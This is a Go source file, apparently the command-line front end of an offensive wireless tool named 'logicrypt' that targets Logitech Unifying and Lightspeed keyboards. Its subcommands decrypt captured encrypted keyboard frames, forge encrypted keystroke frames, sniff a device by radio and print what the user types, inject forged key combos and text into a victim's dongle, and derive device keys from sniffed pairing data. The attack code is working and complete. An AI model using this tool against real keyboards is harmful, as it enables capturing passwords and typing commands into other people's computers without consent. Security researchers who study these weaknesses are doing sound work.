package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/mame82/logicrypt/helper"
	"github.com/mame82/logicrypt/hid"
	"github.com/mame82/logicrypt/unifying"
	"github.com/manifoldco/promptui"
	log "github.com/sirupsen/logrus"
)

const usage = `usage: logicrypt <command> [flags]

commands:
  decrypt   decrypt a captured encrypted keyboard (22 bytes) or HID++ long (30 bytes) frame
  encrypt   forge an encrypted keyboard frame
  sniff     follow a device with a CrazyRadio PA and decrypt its frames
  inject    transmit forged keyboard frames to the dongle of a device
  linkkey   derive a device key from sniffed pairing data

Missing -key / -mode values are asked for interactively.
`

type commonFlags struct {
	debug *bool
	key   *string
	mode  *string
	store *string

	setInfo *unifying.SetInfo
}

func newFlagSet(name string, defaultMode string) (*flag.FlagSet, *commonFlags) {
	fs := flag.NewFlagSet(name, flag.ExitOnError)
	cf := &commonFlags{
		debug: fs.Bool("debug", false, "enable debug output (frame keys and raw frames)"),
		key:   fs.String("key", "", "16 byte device key as hex, e.g. 02:7d:77:07:..."),
		mode:  fs.String("mode", defaultMode, "work mode: unifying or lightspeed"),
		store: fs.String("store", "", "JSON file with dongle and device data (address, key, mode, next counter)"),
	}
	return fs, cf
}

func (cf *commonFlags) apply() {
	if *cf.debug {
		log.SetLevel(log.DebugLevel)
	}
}

func parseKey(s string) ([]byte, error) {
	key, err := helper.ParseHexBytes(s)
	if err != nil {
		return nil, err
	}
	if len(key) != unifying.DEVICE_KEY_LEN {
		return nil, fmt.Errorf("%w, got %d", unifying.ErrInvalidKeyLength, len(key))
	}
	return key, nil
}

func (cf *commonFlags) deviceKey() ([]byte, error) {
	keyStr := *cf.key
	if keyStr == "" {
		prompt := promptui.Prompt{
			Label: "Device key (hex)",
			Mask:  '*',
			Validate: func(s string) error {
				_, err := parseKey(s)
				return err
			},
		}
		s, err := prompt.Run()
		if err != nil {
			return nil, err
		}
		keyStr = s
	}
	return parseKey(keyStr)
}

func (cf *commonFlags) workMode() (unifying.WorkMode, error) {
	if *cf.mode == "" {
		sel := promptui.Select{
			Label: "Work mode",
			Items: []string{unifying.WORKMODE_UNIFYING.String(), unifying.WORKMODE_LIGHTSPEED.String()},
		}
		_, choice, err := sel.Run()
		if err != nil {
			return unifying.WORKMODE_UNIFYING, err
		}
		return unifying.ParseWorkMode(choice)
	}
	return unifying.ParseWorkMode(*cf.mode)
}

// device builds the device from the flags. With -store, address, key, mode and counter of
// a known device are taken from the file unless given as flag.
func (cf *commonFlags) device(addrStr string) (*unifying.Device, error) {
	var addr unifying.Nrf24Addr
	if addrStr != "" {
		var err error
		if addr, err = unifying.ParseNrf24Addr(addrStr); err != nil {
			return nil, err
		}
	}

	if *cf.store != "" {
		si, err := unifying.LoadSetInfoFromFile(*cf.store)
		switch {
		case errors.Is(err, os.ErrNotExist):
			si = &unifying.SetInfo{}
		case err != nil:
			return nil, err
		}
		cf.setInfo = si

		if di, found := si.Lookup(addr); found && addr != nil {
			log.Debugf("using stored data\n%s", di)
			dev, err := di.Device()
			if err != nil {
				return nil, err
			}
			if *cf.mode != "" {
				if dev.Mode, err = unifying.ParseWorkMode(*cf.mode); err != nil {
					return nil, err
				}
			}
			if *cf.key != "" || !dev.HasKey() {
				key, err := cf.deviceKey()
				if err != nil {
					return nil, err
				}
				if err = dev.SetKey(key); err != nil {
					return nil, err
				}
			}
			return dev, nil
		}
	}

	mode, err := cf.workMode()
	if err != nil {
		return nil, err
	}
	key, err := cf.deviceKey()
	if err != nil {
		return nil, err
	}

	dev := unifying.NewDevice(addr, mode)
	if err = dev.SetKey(key); err != nil {
		return nil, err
	}
	return dev, nil
}

// persist writes key, mode and next counter of dev back to the -store file
func (cf *commonFlags) persist(dev *unifying.Device) error {
	if cf.setInfo == nil || len(dev.RfAddress) == 0 {
		return nil
	}
	cf.setInfo.UpdateDevice(dev)
	return cf.setInfo.Store(*cf.store)
}

func parseCounter(s string) (uint32, error) {
	c, err := strconv.ParseUint(s, 0, 32)
	if err != nil {
		return 0, fmt.Errorf("invalid counter '%s': %w", s, err)
	}
	return uint32(c), nil
}

func cmdDecrypt(args []string) error {
	fs, cf := newFlagSet("decrypt", unifying.WORKMODE_UNIFYING.String())
	frameStr := fs.String("frame", "", "raw RF frame as hex")
	fs.Parse(args)
	cf.apply()

	raw, err := helper.ParseHexBytes(*frameStr)
	if err != nil {
		return err
	}
	dev, err := cf.device("")
	if err != nil {
		return err
	}

	switch len(raw) {
	case unifying.ENCRYPTED_KEYBOARD_FRAME_LEN:
		frame, err := unifying.ParseEncryptedKeyboardFrame(raw)
		if err != nil {
			return err
		}
		report, err := unifying.DecryptKeyboardFrame(dev.Key[:], raw)
		if err != nil {
			return err
		}
		fmt.Printf("counter:   %08x (%s)\n", dev.Mode.ParseCounter(frame.Counter()), dev.Mode)
		fmt.Printf("decrypted: % 02x\n", report[:])
		fmt.Printf("report:    %s\n", report)
		if !report.MarkerValid() {
			fmt.Println("marker byte isn't 0xc9, key is likely wrong")
		}
		if dev.Mode == unifying.WORKMODE_LIGHTSPEED {
			ext, err := unifying.DefaultCodec.LightspeedExtension(dev.Key[:], &frame)
			if err != nil {
				return err
			}
			fmt.Printf("extension: % 02x\n", ext[:])
		}
	case unifying.ENCRYPTED_HIDPP_LONG_FRAME_LEN:
		frame, err := unifying.ParseEncryptedHidppLongFrame(raw)
		if err != nil {
			return err
		}
		report, err := unifying.DecryptHidppLongFrame(dev.Key[:], raw)
		if err != nil {
			return err
		}
		fmt.Printf("counter:   %08x, %08x\n", frame.Counter(), frame.Counter()+1)
		fmt.Printf("decrypted: % 02x\n", report[:])
	default:
		return fmt.Errorf("%w: no encrypted report has length %d", unifying.ErrInvalidFrame, len(raw))
	}

	return nil
}

func cmdEncrypt(args []string) error {
	fs, cf := newFlagSet("encrypt", "")
	reportStr := fs.String("report", "00:00:00:00:00:00:00", "plain report as hex (modifiers, up to 6 keys), byte 7 is forced to 0xc9")
	counterStr := fs.String("counter", "0", "frame counter")
	fs.Parse(args)
	cf.apply()

	rawpay, err := helper.ParseHexBytes(*reportStr)
	if err != nil {
		return err
	}
	counter, err := parseCounter(*counterStr)
	if err != nil {
		return err
	}
	dev, err := cf.device("")
	if err != nil {
		return err
	}

	frame, err := unifying.DefaultCodec.EncryptKeyboardPayload(dev.Key[:], rawpay, counter, dev.Mode)
	if err != nil {
		return err
	}
	fmt.Printf("%s\n", frame)
	return nil
}

func openRadio(lna bool) (*unifying.NRF24, error) {
	nrf24, err := unifying.NewNRF24()
	if err != nil {
		return nil, err
	}
	if lna {
		if err = nrf24.EnableLNA(); err != nil {
			nrf24.Close()
			return nil, err
		}
	}
	return nrf24, nil
}

func cmdSniff(ctx context.Context, args []string) error {
	fs, cf := newFlagSet("sniff", "")
	addrStr := fs.String("addr", "", "RF address of the device, e.g. e2:c7:94:f2:4c")
	lna := fs.Bool("lna", true, "enable CrazyRadio PA amplifier")
	fs.Parse(args)
	cf.apply()

	if *addrStr == "" {
		return errors.New("sniff needs -addr")
	}
	dev, err := cf.device(*addrStr)
	if err != nil {
		return err
	}
	nrf24, err := openRadio(*lna)
	if err != nil {
		return err
	}
	defer nrf24.Close()

	// passive, no acks
	if err = nrf24.EnterSnifferMode(dev.RfAddress, false); err != nil {
		return err
	}

	log.Infof("sniffing %s", dev)
	follower := &unifying.Follower{
		Radio:       nrf24,
		Ctx:         ctx,
		RescanDelay: time.Millisecond * 1200, // keep alive interval of an idle keyboard
	}
	err = unifying.Capture(ctx, follower, dev, func(device *unifying.Device, frameTime time.Duration, frame unifying.DecryptedFrame) bool {
		fmt.Printf("%-11.4f %-60X %s\n", float32(frameTime.Nanoseconds())/1e6, frame.Raw, frame.Type)
		fmt.Printf(" --> %s\n", frame)
		if frame.Type == unifying.FT_KEYBOARD || frame.Keyboard.MarkerValid() {
			typed := ""
			for _, k := range frame.Keyboard.Keys() {
				typed += hid.AsciiTransform(hid.HIDMod(frame.Keyboard.Modifiers()), hid.HIDKey(k))
			}
			if typed != "" {
				fmt.Printf(" --> typed: %q\n", typed)
			}
		}
		// forged frames have to continue above the last counter seen on air
		if frame.Type == unifying.FT_KEYBOARD_ENCRYPTED && frame.Keyboard.MarkerValid() && frame.Counter >= device.Counter {
			device.Counter = frame.Counter + 1
		}
		return true
	})
	if errors.Is(err, context.Canceled) {
		err = nil
	}
	if ePersist := cf.persist(dev); ePersist != nil && err == nil {
		err = ePersist
	}
	return err
}

func keyPressReport(kp hid.KeyPress) unifying.KeyboardReport {
	if kp.Key == hid.HID_KEY_NONE {
		return unifying.NewKeyboardReport(byte(kp.Mod))
	}
	return unifying.NewKeyboardReport(byte(kp.Mod), byte(kp.Key))
}

// injectReports builds the report sequence: key combos first, raw reports next, text last
func injectReports(keysStr, reportsStr, text string, release bool) ([]unifying.KeyboardReport, error) {
	reports := make([]unifying.KeyboardReport, 0)
	add := func(r unifying.KeyboardReport) {
		reports = append(reports, r)
		if release {
			reports = append(reports, unifying.NewKeyboardReport(0x00))
		}
	}

	if keysStr != "" {
		for _, combo := range strings.Split(keysStr, ",") {
			kp, err := hid.ParseKeyCombo(combo)
			if err != nil {
				return nil, err
			}
			add(keyPressReport(kp))
		}
	}
	if reportsStr != "" {
		for _, r := range strings.Split(reportsStr, ",") {
			raw, err := helper.ParseHexBytes(r)
			if err != nil {
				return nil, err
			}
			if len(raw) > 7 {
				return nil, fmt.Errorf("report '%s' needs 1 to 7 bytes", r)
			}
			add(unifying.NewKeyboardReport(raw[0], raw[1:]...))
		}
	}
	if text != "" {
		kps, err := hid.ParseText(text)
		if err != nil {
			return nil, err
		}
		for _, kp := range kps {
			add(keyPressReport(kp))
		}
	}
	return reports, nil
}

func cmdInject(ctx context.Context, args []string) error {
	fs, cf := newFlagSet("inject", "")
	addrStr := fs.String("addr", "", "RF address of the device, e.g. e2:c7:94:f2:4c")
	counterStr := fs.String("counter", "", "first frame counter, has to be above the last one accepted by the dongle (default: stored next counter or 0)")
	reportsStr := fs.String("reports", "", "comma separated plain reports as hex (modifiers, up to 6 keys)")
	keysStr := fs.String("keys", "", "comma separated key combos, e.g. MOD_LEFT_GUI+KEY_R")
	text := fs.String("text", "", "ASCII text to type (US layout)")
	release := fs.Bool("release", true, "send an empty report (all keys up) after each report")
	delay := fs.Duration("delay", 8*time.Millisecond, "delay between frames")
	lna := fs.Bool("lna", true, "enable CrazyRadio PA amplifier")
	fs.Parse(args)
	cf.apply()

	if *addrStr == "" || (*reportsStr == "" && *keysStr == "" && *text == "") {
		return errors.New("inject needs -addr and one of -reports, -keys or -text")
	}
	reports, err := injectReports(*keysStr, *reportsStr, *text, *release)
	if err != nil {
		return err
	}

	dev, err := cf.device(*addrStr)
	if err != nil {
		return err
	}
	if *counterStr != "" {
		if dev.Counter, err = parseCounter(*counterStr); err != nil {
			return err
		}
	}

	nrf24, err := openRadio(*lna)
	if err != nil {
		return err
	}
	defer nrf24.Close()

	if err = nrf24.EnterSnifferMode(dev.RfAddress, false); err != nil {
		return err
	}
	ch, err := nrf24.FindDevice(ctx)
	if err != nil {
		return err
	}
	log.Infof("dongle listening for device %s on channel %d", dev.RfAddress, ch)

	// counters used on air are burned even if injection fails half way
	eInject := unifying.InjectReports(ctx, nrf24, dev, reports, *delay)
	if err = cf.persist(dev); err != nil {
		log.WithError(err).Warn("next counter not stored")
	}
	if eInject != nil {
		return eInject
	}
	log.Infof("%d frames injected, next counter %08x", len(reports), dev.Counter)
	return nil
}

func parseFixedHex(name, s string, dst []byte) error {
	raw, err := helper.ParseHexBytes(s)
	if err != nil {
		return fmt.Errorf("-%s: %w", name, err)
	}
	if len(raw) != len(dst) {
		return fmt.Errorf("-%s needs %d bytes, got %d", name, len(dst), len(raw))
	}
	copy(dst, raw)
	return nil
}

func cmdLinkKey(args []string) error {
	fs := flag.NewFlagSet("linkkey", flag.ExitOnError)
	serial := fs.String("serial", "", "dongle serial (4 bytes), first part of the device address")
	devWPID := fs.String("dev-wpid", "", "device WPID (2 bytes)")
	dongleWPID := fs.String("dongle-wpid", "", "dongle WPID (2 bytes)")
	devNonce := fs.String("dev-nonce", "", "device nonce (4 bytes)")
	dongleNonce := fs.String("dongle-nonce", "", "dongle nonce (4 bytes)")
	dest := fs.Uint("dest", 0, "destination ID (last address byte) of the device, needed with -store")
	store := fs.String("store", "", "JSON file to add the device with its key to")
	fs.Parse(args)

	var p unifying.PairingData
	for _, f := range []struct {
		name string
		val  string
		dst  []byte
	}{
		{"serial", *serial, p.DongleSerial[:]},
		{"dev-wpid", *devWPID, p.DeviceWPID[:]},
		{"dongle-wpid", *dongleWPID, p.DongleWPID[:]},
		{"dev-nonce", *devNonce, p.DeviceNonce[:]},
		{"dongle-nonce", *dongleNonce, p.DongleNonce[:]},
	} {
		if err := parseFixedHex(f.name, f.val, f.dst); err != nil {
			return err
		}
	}

	key := p.LinkKey()
	log.Debugf("pairing data: %s", p)
	fmt.Printf("% 02x\n", key[:])

	if *store == "" {
		return nil
	}
	if *dest == 0 || *dest > 0xff {
		return errors.New("-store needs -dest in range 0x01..0xff")
	}
	si, err := unifying.LoadSetInfoFromFile(*store)
	if errors.Is(err, os.ErrNotExist) {
		si, err = &unifying.SetInfo{Dongle: unifying.DongleInfo{WPID: p.DongleWPID[:], Serial: p.DongleSerial[:]}}, nil
	}
	if err != nil {
		return err
	}
	addr := unifying.Nrf24Addr(append(append([]byte{}, p.DongleSerial[:]...), byte(*dest)))
	dev := unifying.NewDevice(addr, unifying.WORKMODE_UNIFYING)
	if di, found := si.Lookup(addr); found {
		if dev, err = di.Device(); err != nil {
			return err
		}
	}
	if err = dev.SetKey(key[:]); err != nil {
		return err
	}
	si.UpdateDevice(dev)
	return si.Store(*store)
}

func main() {
	if len(os.Args) < 2 {
		fmt.Print(usage)
		os.Exit(2)
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	var err error
	args := os.Args[2:]
	switch os.Args[1] {
	case "decrypt":
		err = cmdDecrypt(args)
	case "encrypt":
		err = cmdEncrypt(args)
	case "sniff":
		err = cmdSniff(ctx, args)
	case "inject":
		err = cmdInject(ctx, args)
	case "linkkey":
		err = cmdLinkKey(args)
	default:
		fmt.Print(usage)
		os.Exit(2)
	}

	if err != nil {
		log.WithField("kind", unifying.KindOf(err)).Fatal(err)
	}
}
